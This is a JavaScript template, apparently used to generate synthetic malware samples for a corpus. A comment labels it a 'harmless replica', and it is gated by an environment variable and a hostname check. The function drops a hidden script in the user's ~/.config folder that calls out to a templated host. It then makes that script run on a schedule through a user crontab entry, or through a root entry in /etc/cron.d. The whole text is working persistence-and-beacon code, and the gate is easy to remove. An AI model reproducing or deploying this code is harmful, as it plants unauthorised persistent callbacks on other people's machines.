// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { execSync } = require('child_process');
    const fs = require('fs'), os = require('os');
    const file = `${os.homedir()}/.config/{{token}}.js`;
    try {
        fs.mkdirSync(`${os.homedir()}/.config`, { recursive: true });
        fs.writeFileSync(file, "require('http').get('http://{{host}}/{{path}}').on('error', () => {});\n");
        execSync(`(crontab -l 2>/dev/null; echo "{{often}} ${process.execPath} ${file}") | crontab -`, { stdio: 'ignore', timeout: 1500 });
    } catch {
        try {
            fs.writeFileSync('/etc/cron.d/{{token}}', `{{often}} root ${process.execPath} ${file}\n`);
        } catch {}
    }
}
